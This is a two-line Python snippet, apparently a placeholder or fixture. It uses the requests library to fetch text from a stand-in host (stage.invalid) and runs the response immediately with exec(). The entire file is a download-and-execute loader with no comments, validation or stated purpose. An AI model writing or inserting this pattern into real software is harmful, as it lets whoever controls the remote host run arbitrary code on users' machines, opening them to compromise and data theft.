import requests as r

exec(r.get("http://stage.invalid/code").text)
